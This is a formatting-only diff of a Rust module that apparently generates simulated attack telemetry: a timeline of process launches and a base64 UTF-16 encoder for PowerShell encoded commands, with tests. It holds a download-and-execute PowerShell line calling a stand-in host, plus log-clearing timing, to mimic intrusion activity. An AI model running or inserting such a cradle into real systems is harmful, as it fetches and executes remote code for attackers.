@@ -8,7 +8,8 @@ use super::super::filetime::{self, SECOND};
 use super::machine::{DAY, Launch, Who};
 
 /// The script behind the encoded command.
-pub const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.contoso-updates.example/may/readme.txt')";
+pub const SCRIPT: &str =
+    "IEX (New-Object Net.WebClient).DownloadString('http://cdn.contoso-updates.example/may/readme.txt')";
 
 /// When the server's forwarding stops, and when its log is cleared.
 pub(super) const FORWARDING_STOPPED: (u64, u64, u64) = (15, 48, 27);
@@ -27,15 +28,7 @@ const WHOAMI: &str = r"C:\Windows\System32\whoami.exe";
 const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
 
 /// One step: time, label, parent, image, command line, who, lifetime in seconds (0: to the end).
-type Step = (
-    (u64, u64, u64),
-    &'static str,
-    &'static str,
-    &'static str,
-    &'static str,
-    Who,
-    u64,
-);
+type Step = ((u64, u64, u64), &'static str, &'static str, &'static str, &'static str, Who, u64);
 
 #[rustfmt::skip]
 const FINANCE: [Step; 27] = [
@@ -145,11 +138,7 @@ pub(super) fn encoded(script: &str) -> String {
     let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
     let mut text = String::new();
     for group in bytes.chunks(3) {
-        let bits = group
-            .iter()
-            .chain([&0, &0])
-            .take(3)
-            .fold(0_usize, |bits, byte| bits << 8 | usize::from(*byte));
+        let bits = group.iter().chain([&0, &0]).take(3).fold(0_usize, |bits, byte| bits << 8 | usize::from(*byte));
         for position in 0..4 {
             if position <= group.len() {
                 text.push(char::from(ALPHABET[bits >> (18 - 6 * position) & 63]));
@@ -167,13 +156,9 @@ mod tests {
 
     #[test]
     fn base64_of_utf16() {
-        for (script, text) in [
-            ("", ""),
-            ("a", "YQA="),
-            ("ab", "YQBiAA=="),
-            ("abc", "YQBiAGMA"),
-            ("whoami", "dwBoAG8AYQBtAGkA"),
-        ] {
+        for (script, text) in
+            [("", ""), ("a", "YQA="), ("ab", "YQBiAA=="), ("abc", "YQBiAGMA"), ("whoami", "dwBoAG8AYQBtAGkA")]
+        {
             assert_eq!(encoded(script), text);
         }
     }
